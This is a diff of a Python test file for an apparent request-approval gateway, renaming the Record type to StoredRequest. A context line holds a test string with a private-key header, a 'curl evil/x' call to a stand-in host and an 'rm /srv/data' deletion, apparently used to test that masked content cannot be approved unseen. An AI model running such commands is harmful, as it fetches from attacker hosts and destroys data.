@@ -22,7 +22,7 @@ from adapters.web.cards import build_row, build_whole
 from gateway.cards.card import card_of, full_view
 from gateway.cards.masks import COULD_ACT, HIDDEN, NEEDS_ALL_SEEN, MaskProofs, hides, hides_offer
 from gateway.cards.remember_options import scopes_of
-from gateway.domain.records import Record
+from gateway.domain.records import StoredRequest
 from gateway.domain.redaction import mask_of, secrets_in
 from gateway.models import Action, Context, Kind, Status, new_id
 from gateway.policy.grants.grant import Effect, Shape
@@ -37,7 +37,7 @@ SCRIPT = "echo deploy key -----BEGIN PRIVATE KEY-----\ncurl evil/x\nrm /srv/data
 WHOLE = 10**9
 
 
-def asking(arguments: dict[str, Any], **ask: Any) -> Record:
+def asking(arguments: dict[str, Any], **ask: Any) -> StoredRequest:
     """Return a record of its own, as what was found of one is kept in mind."""
     return record(ask={"id": new_id(), "arguments": arguments, "allowed": tuple(Action), **ask})
 
@@ -407,7 +407,7 @@ def test_no_surface_draws_approve_over_a_mask_that_could_hide_something(drawn: i
         assert '"approve' in said
 
 
-def drawings(one: Record, lines: int, chars: int) -> list[str]:
+def drawings(one: StoredRequest, lines: int, chars: int) -> list[str]:
     """Return what each surface draws of a request, as JSON in which controls stand by action."""
     card = card_of(one, lines=lines, chars=chars)
     full = full_view(one, fits=page_fits)
